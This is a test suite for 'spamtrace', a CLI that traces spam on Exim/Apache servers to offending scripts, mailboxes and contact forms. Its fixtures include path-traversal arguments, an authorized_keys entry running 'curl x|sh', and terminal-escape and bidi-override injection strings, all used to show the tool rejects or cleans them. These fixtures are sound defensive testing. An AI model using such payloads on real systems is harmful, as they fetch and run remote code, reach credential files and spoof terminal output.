import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';

const top = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const sample = join(top, 'sample');
const temporary = mkdtempSync(join(tmpdir(), 'cli-'));

afterAll(() => rmSync(temporary, { recursive: true }));

interface Ran {
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function spamtrace(...argv: readonly string[]): Ran {
  const environment = { PATH: process.env['PATH'] ?? '', LC_ALL: 'C' };
  const { status, stdout, stderr } = spawnSync(process.execPath, [join(top, 'dist', 'spamtrace.cjs'), ...argv], {
    encoding: 'utf8',
    env: environment,
    maxBuffer: 1 << 28,
  });
  return { status, stdout, stderr };
}

interface ScanJson {
  readonly findings: readonly {
    readonly id: string;
    readonly ref: string;
    readonly queued: number;
    readonly delivered: number;
    readonly rejected: number;
    readonly removed: number;
    readonly recipients: number;
    readonly evidence: readonly {
      readonly from: { readonly file?: string; readonly line?: number; readonly byte?: number };
      readonly text: string;
    }[];
  }[];
  readonly coverage: { readonly understood: number };
}

const scan = (root: string): ScanJson => JSON.parse(spamtrace('--root', root, '--json').stdout) as ScanJson;

describe('calls', () => {
  it('tells its version', () => {
    expect(spamtrace('--version').stdout).toMatch(/^spamtrace \d+\.\d+\.\d+\n$/);
  });

  it.each([
    [['bogus'], 64],
    [['--bogus'], 64],
    [['scan', '--mta', 'qmail'], 64],
    [['--root', '/nonexistent/x'], 64],
    [['--root', sample, '--since', 'yesterday'], 64],
    [['--root', sample, 'queue', 'list', '-f', '('], 64],
    [['--root', sample, 'queue', 'show', '../../etc/passwd'], 64],
    [['--root', sample, 'queue', 'show', '1xUQKS-0000kQ-0Z\n'], 64],
    [['--root', sample, 'queue', 'show', '1xUQKS-999999-0Z'], 65],
    [['--root', sample, 'explain', 'deadbeef'], 65],
    [['--root', sample, 'block', 'deadbeef', '--yes'], 77],
    [['--root', sample, 'block', 'cron', 'root', '--yes'], 77],
    [['block', 'cron', 'root', 'more'], 64],
    [['--root', sample, 'undo', 'deadbeef'], 65],
    [['watch'], 69],
    [['queue', 'remove', '--all', '--yes'], 69],
    [['--root', sample, 'queue', 'remove', '--all', '--yes'], 77],
    [['--root', sample, 'queue', 'hold', '1xUQKS-999999-0Z', '--yes'], 77],
    [['--root', sample, 'queue', 'export', '--all'], 77],
    [['--root', sample, 'queue', 'import', '/etc/passwd', '--yes'], 77],
    [['--root', sample, 'queue', 'remove'], 64],
    [['--root', sample, 'queue', 'remove', 'ALL'], 64],
    [['--root', sample, 'queue', 'remove', '../x', '--yes'], 64],
    [['--root', sample, 'queue', 'release', '-f', ''], 64],
    [['--root', sample, 'queue', 'retry', '--queue', ''], 64],
    [['--root', sample, 'queue', 'return', '--all', '1xUQKS-999999-0Z'], 64],
    [['serve'], 69],
    [['--root', 'sample', 'sessions', 'end', 'shop'], 77],
    [['sessions', '--watch-for', 'long'], 64],
    [['--config', '/nonexistent.toml'], 78],
  ] as const)('%j ends with %d and says nothing on stdout', (argv, status) => {
    const ran = spamtrace(...argv);
    expect(ran.status).toBe(status);
    expect(ran.stdout).toBe('');
    expect(ran.stderr).not.toBe('');
    const json = spamtrace('--json', ...argv);
    expect(json.stdout).toBe('');
    expect(json.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(JSON.parse(json.stderr)).toMatchObject({ exit: status, code: expect.any(String), message: expect.any(String) });
  });

  it.each(['en', 'ru'])('has help for every command in %s', (language) => {
    const names = [...spamtrace('--help', '--lang', language).stdout.matchAll(/^ {2}([a-z]+)(?: |$)/gm)].map(([, name]) => name ?? '');
    expect(names.length).toBeGreaterThan(15);
    for (const name of names) {
      const { stdout, status } = spamtrace(name, '--help', '--lang', language);
      expect(status).toBe(0);
      expect(stdout).toContain(`spamtrace ${name}`);
      expect(/\p{Script=Cyrillic}/u.test(stdout)).toBe(language === 'ru');
    }
  });

  it('plans a block on a copy, in two languages, and makes none', () => {
    const plan = spamtrace('--root', sample, '--json', 'block', 'c2ce4a75', '--dry-run');
    expect(plan.status, plan.stderr).toBe(0);
    expect(JSON.parse(plan.stdout)).toMatchObject({
      plan: 'block-site-mail',
      source: { kind: 'script', site: 'kestrel-dental.example' },
      diff: [{ path: '/etc/apache2/sites-available/kestrel-dental.example.conf', after: expect.stringContaining('sendmail_path "/bin/false"') }],
      runs: expect.arrayContaining(['/usr/sbin/apache2ctl -t']),
      undoable: true,
    });
    expect(spamtrace('--root', sample, 'block', 'site', 'www.kestrel-dental.example', '--dry-run', '--lang', 'ru').stdout).toMatch(
      /\+ {4}php_admin_value sendmail_path "\/bin\/false"[^]*\p{Script=Cyrillic}/u,
    );
    expect(spamtrace('--root', sample, 'block', 'c2ce4a75', '--yes')).toMatchObject({ status: 77, stdout: '' });
  });

  it('sees no sessions on a copy, and says so', () => {
    expect(spamtrace('--root', sample, 'sessions')).toMatchObject({ status: 0, stdout: expect.stringContaining('--root') });
    expect(spamtrace('--root', sample, 'sessions', '--json')).toMatchObject({ status: 0, stdout: '', stderr: expect.stringContaining('--root') });
  });

  it('tells what is wrong with accounts of a copy, in lines that hold no control byte', () => {
    const root = join(temporary, 'accounts');
    mkdirSync(join(root, 'etc'), { recursive: true });
    mkdirSync(join(root, 'home/a/.ssh'), { recursive: true });
    writeFileSync(join(root, 'etc/passwd'), 'root:x:0:0::/root:/bin/bash\nto\u001b]0;x\u0007or:x:0:0:\u202e:/home/a:/bin/bash\n');
    writeFileSync(join(root, 'home/a/.ssh/authorized_keys'), `command="curl x|sh" ssh-ed25519 ${'A'.repeat(60)} \u001b[2J\u009b31m\n`);
    const { status, stdout } = spamtrace('--root', root, 'accounts', '--json');
    expect(status).toBe(0);
    const lines = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines.map(({ problem, severity, uid }) => [problem, severity, uid])).toContainEqual(['second-root', 'critical', 0]);
    expect(Object.keys(lines[0] ?? {})).toEqual(['account', 'uid', 'problem', 'severity', 'evidence']);
    for (const language of ['en', 'ru']) {
      const shown = spamtrace('--root', root, 'accounts', '--lang', language).stdout;
      expect(shown).toContain('/etc/passwd:2');
      // oxlint-disable-next-line no-control-regex
      expect(shown + stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
  });

  it('is told that no mail server is here', () => {
    const empty = join(temporary, 'empty');
    mkdirSync(empty);
    expect(spamtrace('--root', empty, 'queue', 'list').status).toBe(69);
    expect(spamtrace('--root', empty).status).toBe(0);
    expect(JSON.parse(spamtrace('--root', empty, '--json').stdout)).toMatchObject({ schema: 1, mta: [], findings: [] });
  });
});

describe('the sample', () => {
  it('has one culprit, with the proofs at the lines given', () => {
    const { findings, coverage } = scan(sample);
    expect(findings).toHaveLength(1);
    expect(coverage.understood).toBeGreaterThanOrEqual(0.995);
    for (const { id, ref, queued, delivered, rejected, removed, recipients, evidence } of findings) {
      expect(ref).toBe(createHash('sha256').update(id).digest('hex').slice(0, 8));
      expect(queued + delivered + rejected + removed).toBe(recipients);
      expect(evidence.length).toBeGreaterThanOrEqual(3);
      for (const { from, text } of evidence) {
        if (from.file === undefined) continue;
        const bytes = readFileSync(join(sample, from.file));
        expect(bytes.toString('utf8').split('\n')[(from.line ?? 0) - 1]).toBe(text);
        expect(bytes.subarray(from.byte).toString('utf8').startsWith(text)).toBe(true);
      }
    }
  });

  it('lists what waits of a finding, with the bounces that it caused', () => {
    const [finding] = scan(sample).findings;
    const lines = spamtrace('--root', sample, 'queue', 'list', '--json', '--source', finding?.ref ?? '')
      .stdout.trimEnd()
      .split('\n');
    const listed = lines.map((line) => JSON.parse(line) as { readonly source: string; readonly submission: { readonly via: string } });
    expect(listed.filter(({ submission }) => submission.via !== 'bounce')).toHaveLength(finding?.queued ?? -1);
    expect(listed.some(({ submission }) => submission.via === 'bounce')).toBe(true);
    expect(new Set(listed.map(({ source }) => source))).toEqual(new Set([finding?.id]));
  });

  it('tells what is posted to its sites, and which of it sends mail', () => {
    const [first] = spamtrace('--root', sample, 'posts', '--json')
      .stdout.split('\n')
      .map((line) => JSON.parse(line || '{}') as Record<string, unknown>);
    const [finding] = scan(sample).findings;
    expect(`script:${String(first?.['file'])}`).toBe(finding?.id);
    expect(first?.['messages']).toBeGreaterThan(10 * Number(first?.['messagesExpected']));
    expect(first?.['evidence']).toHaveLength(2);
    expect(Object.keys(first ?? {})).toEqual(['site', 'path', 'file', 'requests', 'clients', 'messages', 'messagesExpected', 'evidence']);
  });

  it("leads a provider's complaint and a Message-ID to the source", () => {
    const [finding] = scan(sample).findings;
    const copy = join(temporary, 'message-id');
    cpSync(sample, copy, { recursive: true });
    const log = join(copy, 'var/log/exim4/mainlog');
    const messageId = 'k17@shop.example';
    const lines = readFileSync(log, 'latin1').split('\n');
    const last = lines.findLastIndex((line) => line.includes('U=www-data P=local') && line.includes('kestrel-dental'));
    // As Exim logs a message that came with a Message-ID of its own.
    const arrival = (lines[last] ?? '').replace(/ T="/, ` id=${messageId} T="`);
    writeFileSync(log, lines.with(last, arrival).join('\n'), 'latin1');
    const [, id = ''] = / (\S+) <= /.exec(arrival) ?? [];
    const complaint = join(temporary, 'complaint.eml');
    const host = JSON.parse(spamtrace('--root', sample, '--json').stdout) as { readonly host: string };
    writeFileSync(
      complaint,
      `Subject: abuse\nContent-Type: text/plain\n\n> Received: from www-data by ${host.host} with local (Exim 4.96)\n> \tid ${id}\n> Subject: x\n`,
    );
    for (const what of [id, messageId, `<${messageId}>`, `E${id}@${host.host}`, complaint]) {
      const ran = spamtrace('--root', copy, 'explain', what, '--json');
      expect([what, ran.status]).toEqual([what, 0]);
      const { message, source, evidence } = JSON.parse(ran.stdout) as {
        readonly message: { readonly id: string };
        readonly source: { readonly path: string };
        readonly evidence: readonly { readonly text: string }[];
      };
      expect(message.id).toBe(id);
      expect(`script:${source.path}`).toBe(finding?.id);
      expect(evidence.map(({ text }) => text)).toContain(arrival);
    }
    expect(spamtrace('--root', sample, 'explain', 'nobody@nowhere.example').status).toBe(65);
  });

  it('clears an address that forwards the spam of strangers, and says what to mend', () => {
    const copy = join(temporary, 'forwarder');
    cpSync(sample, copy, { recursive: true });
    const lines = Array.from({ length: 8 }, (_, index) => {
      const id = `1xUQZ${index}-0000kV-1M`;
      const refused = 'SMTP error from remote mail server after end of data: 550 5.7.1 looks like spam';
      return [
        `2026-11-20 18:15:1${index} [3100] ${id} <= offer@far.example H=mx.far.example [203.0.113.77] P=esmtp S=900`,
        `2026-11-20 18:15:1${index} [3101] ${id} ** owner@gmail.example <info@kestrel-dental.example> R=dnslookup T=remote_smtp H=mx.gmail.example [203.0.113.25]: ${refused}`,
        `2026-11-20 18:15:1${index} [3101] ${id} Completed`,
      ];
    });
    const log = join(copy, 'var/log/exim4/mainlog');
    writeFileSync(log, `${readFileSync(log, 'latin1')}${lines.flat().join('\n')}\n`, 'latin1');
    const { cleared, findings } = JSON.parse(spamtrace('--root', copy, '--json').stdout) as {
      readonly cleared: readonly { readonly source: object; readonly why: string; readonly messages: number; readonly evidence: readonly object[] }[];
      readonly findings: readonly { readonly id: string }[];
    };
    const forwarder = cleared.find(({ why }) => why === 'forwarder');
    expect(forwarder).toMatchObject({ source: { kind: 'mailbox', address: 'info@kestrel-dental.example' }, messages: 8 });
    expect(forwarder?.evidence).toHaveLength(1);
    expect(findings).toHaveLength(1);
    expect(spamtrace('--root', copy).stdout).toContain('end the forwarding');
  });

  it('is read by the code that reads any server: a script renamed in a copy is renamed in the verdict', () => {
    const copy = join(temporary, 'copy');
    cpSync(sample, copy, { recursive: true });
    const [before] = scan(sample).findings;
    const path = before?.id.slice('script:'.length) ?? '';
    const name = path.slice(path.lastIndexOf('/') + 1);
    renameSync(join(copy, path), join(copy, dirname(path), 'renamed.php'));
    for (const file of readdirSync(join(copy, 'var'), { recursive: true, withFileTypes: true })) {
      const at = join(file.parentPath, file.name);
      if (!file.isFile() || file.name.endsWith('.gz')) continue;
      const text = readFileSync(at, 'latin1');
      // The length of the header that bears the name is counted in the spool.
      if (text.includes(name))
        writeFileSync(
          at,
          text
            .replaceAll(name, 'renamed.php')
            .replace(
              /^(\d{3})( {2}X-PHP-Originating-Script: [^\n]*)$/m,
              (_, count: string, rest: string) => `${String(Number(count) + 11 - name.length).padStart(3, '0')}${rest}`,
            ),
          'latin1',
        );
    }
    expect(scan(copy).findings.map(({ id }) => id)).toEqual([`script:${dirname(path)}/renamed.php`]);
  });

  it('names the contact forms in the files of its sites, those that mail to any typed address', () => {
    const { status, stdout } = spamtrace('--root', sample, 'forms', '--json');
    expect(status).toBe(0);
    const forms = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(forms.length).toBeGreaterThan(0);
    for (const form of forms) {
      expect(Object.keys(form)).toEqual(['site', 'file', 'kind', 'captcha', 'sendsMail', 'evidence']);
      expect(form).toMatchObject({ kind: 'php', captcha: null, sendsMail: true, file: expect.stringMatching(/\/contact\.php$/) });
    }
    expect(spamtrace('--root', sample, 'forms', '--lang', 'ru').stdout).toMatch(/пишет на любой введённый адрес/);
  });

  it('tells which evidence it records and which not, and how to add it', () => {
    const { status, stdout } = spamtrace('--root', sample, 'doctor', '--json');
    expect(status).toBe(0);
    const settings = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    for (const setting of settings) expect(Object.keys(setting)).toEqual(['id', 'what', 'present', 'costs', 'fix']);
    expect(settings).toContainEqual({ id: 'exim-arguments', what: 'exim log_selector +arguments', present: true, costs: null, fix: null });
    expect(settings.filter(({ present }) => present === false)).toMatchObject([
      { id: 'php-mail-log-module', costs: expect.stringMatching(/of 218 messages/) },
      { id: 'exim-log-days', costs: expect.stringMatching(/hours/) },
    ]);
    const fix = (id: string): readonly unknown[] => {
      const ran = spamtrace('--root', sample, 'doctor', '--fix', id, '--lang', 'ru');
      return [ran.status, ran.stdout === ''];
    };
    expect(['exim-arguments', 'exim-log-days', 'nothing-like-it'].map(fix)).toEqual([
      [0, false],
      [69, true],
      [65, true],
    ]);
  });

  it('puts no control byte on a terminal or into a pipe, whatever mail and logs hold', () => {
    const hostile = join(temporary, 'hostile');
    cpSync(sample, hostile, { recursive: true });
    const log = join(hostile, 'var/log/exim4/mainlog');
    const evil = '\u001b]0;pwned\u0007\u009b31m\u202egpj.exe\r';
    writeFileSync(log, readFileSync(log, 'utf8').replaceAll('T="', `T="${evil}`).replaceAll('U=www-data', 'U=www-data'));
    for (const argv of [[], ['--json'], ['queue', 'list'], ['queue', 'list', '--json'], ['queue', 'list', '--logs', '-b']]) {
      const { stdout, stderr } = spamtrace('--root', hostile, ...argv);
      expect(stdout).not.toBe('');
      // oxlint-disable-next-line no-control-regex
      expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
  });

  it('is clean when its mail log is quiet, and says what it looked at', () => {
    const quiet = join(temporary, 'quiet');
    cpSync(sample, quiet, { recursive: true });
    rmSync(join(quiet, 'var/spool'), { recursive: true });
    mkdirSync(join(quiet, 'var/spool/exim4/input'), { recursive: true });
    const log = join(quiet, 'var/log/exim4/mainlog');
    writeFileSync(
      log,
      readFileSync(log, 'latin1')
        .split('\n')
        .filter((line) => !line.includes('service-'))
        .join('\n'),
      'latin1',
    );
    rmSync(join(quiet, 'var/log/exim4/mainlog.1'), { force: true });
    const { status, stdout } = spamtrace('--root', quiet, '--json');
    expect(JSON.parse(stdout)).toMatchObject({ findings: [], looked: expect.arrayContaining(['queue', 'exim-mainlog']) });
    expect(status).toBe(0);
  });
});

describe('trust', () => {
  it('is never given on a copy of another machine', () => {
    const ran = spamtrace('--root', sample, 'trust', 'mailbox:x@a.example', '--why', 'test');
    expect([ran.status, ran.stdout]).toEqual([77, '']);
    expect(spamtrace('--root', sample, 'trust', 'mailbox:x@a.example').status).toBe(64);
  });

  it('clears a source that behaves as it did when it was trusted, and ends when that changes', () => {
    const copy = join(temporary, 'trusted');
    cpSync(sample, copy, { recursive: true });
    const [finding] = scan(copy).findings;
    const behaviour = { busiestHour: 1000, networks: 0, refused: 1, calledSpam: 1, senderDomains: ['kestrel-dental.example'], digest: null };
    const entry = { action: '0a1b2c3d', at: '2026-11-20T00:00:00Z', by: 'root', source: finding?.id, remedy: 'trust', until: null };
    const journal = (changes: object, state = 'applied'): void => {
      mkdirSync(join(copy, 'var/lib/spamtrace'), { recursive: true });
      const plan = { why: 'our own', behaviour: { ...behaviour, ...changes } };
      writeFileSync(join(copy, 'var/lib/spamtrace/journal.jsonl'), `${JSON.stringify({ ...entry, state, plan })}\n`);
    };
    const cleared = (): readonly string[] =>
      (JSON.parse(spamtrace('--root', copy, '--json').stdout) as { readonly cleared: readonly { readonly why: string }[] }).cleared.map(
        ({ why }) => why,
      );
    journal({});
    expect(scan(copy).findings).toEqual([]);
    expect(cleared()).toContain('trusted');
    expect(spamtrace('--root', copy, 'journal', '--json').stdout).toContain('"state":"applied"');
    journal({ refused: 0 });
    expect(scan(copy).findings.map(({ id }) => id)).toEqual([finding?.id]);
    expect(spamtrace('--root', copy).stdout).toContain('it was trusted (our own) until its behaviour changed: more of it refused');
    journal({ senderDomains: null });
    expect(scan(copy).findings.map(({ id }) => id)).toEqual([finding?.id]);
    journal({}, 'undone');
    expect(scan(copy).findings.map(({ id }) => id)).toEqual([finding?.id]);
    expect(spamtrace('--root', copy, 'undo', '0a1b2c3d').status).toBe(65);
  });
});
